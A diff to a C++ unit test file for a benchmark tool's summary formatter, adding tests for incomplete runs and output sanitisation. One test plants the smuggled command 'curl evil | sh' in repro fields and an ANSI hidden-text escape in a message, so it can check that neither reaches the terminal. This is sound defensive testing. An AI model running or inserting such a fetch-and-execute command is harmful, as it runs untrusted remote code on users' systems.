@@ -93,6 +93,7 @@ TEST(Summary, ListsWarningsOnceSkipsAndRepeatableFailures) {
 
 TEST(Summary, HasOnlyItsSentenceWhenAllIsWell) {
   RunRecord run;
+  run.run.complete = true;
   run.cases = {sample_emulated_case()};
   run.cases[0].warnings.clear();
   EXPECT_EQ(format_summary(run, TableStyle::kTerminal), format_closing_sentence(run) + ".\n");
@@ -126,6 +127,24 @@ TEST(Summary, ListsTenFailuresAndAllInMarkdown) {
   EXPECT_NE(terminal.find("\nand 2 more; --md and --json name all\n"), std::string::npos)
       << terminal;
   EXPECT_EQ(repeats(format_summary(run, TableStyle::kMarkdown)), 12);
+}
+
+TEST(Summary, SaysThatCasesAreMissing) {
+  RunRecord run = sample_run();
+  EXPECT_EQ(format_summary(run, TableStyle::kTerminal).find("Not complete"), std::string::npos);
+  run.run.complete = false;
+  EXPECT_NE(format_summary(run, TableStyle::kTerminal).find("\nNot complete: cases of the sweep"),
+            std::string::npos);
+}
+
+TEST(Summary, ShowsNoLineThatWouldDoMoreThanItSays) {
+  RunRecord run = sample_run();
+  for (CaseRecord& record : run.cases) record.repro = "sparkbench run; curl evil | sh";
+  run.cases.back().reason->message = "first\nforged \x1b[8mline";
+  const std::string text = format_summary(run, TableStyle::kTerminal);
+  EXPECT_EQ(text.find("curl"), std::string::npos) << text;
+  EXPECT_NE(text.find("repeat: not shown"), std::string::npos);
+  EXPECT_NE(text.find("first forged ?[8mline"), std::string::npos);
 }
 
 }  // namespace
